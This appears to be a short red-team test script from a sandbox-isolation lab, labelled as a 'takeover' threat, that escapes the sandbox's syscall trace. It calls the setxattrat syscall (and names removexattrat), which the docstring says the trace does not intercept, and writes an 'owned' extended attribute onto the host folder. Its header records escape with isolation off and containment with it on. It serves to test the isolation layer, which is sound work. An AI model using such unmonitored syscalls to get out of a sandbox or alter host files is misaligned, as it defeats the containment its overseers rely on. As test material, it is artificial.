# lab:title: Host takeover through the host folder's xattrs by setxattrat()
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: test
# adversary: --off isolation => ESCAPED takeover ~ the host folder itself
# adversary: --on all => CONTAINED isolation
"""(Red team, round 8.) setxattrat() (Linux 6.13, nr 463) and removexattrat() (466) on the host
folder's path: not among the path calls the trace stops (setxattr,
lsetxattr, removexattr, lremovexattr only)."""
import ctypes, os, struct

libc = ctypes.CDLL(None, use_errno=True)
t = os.environ["LAB_HOST_TARGET"]
host = t[: t.index("/host/") + 5]
val = ctypes.create_string_buffer(b"owned", 5)
# struct xattr_args { __aligned_u64 value; __u32 size; __u32 flags; }
args = ctypes.create_string_buffer(struct.pack("=QII", ctypes.addressof(val), 5, 0), 16)
rc = libc.syscall(463, -100, host.encode(), 0, b"user.lab", args, 16)
print("setxattrat =", rc, os.strerror(ctypes.get_errno()) if rc else "", flush=True)
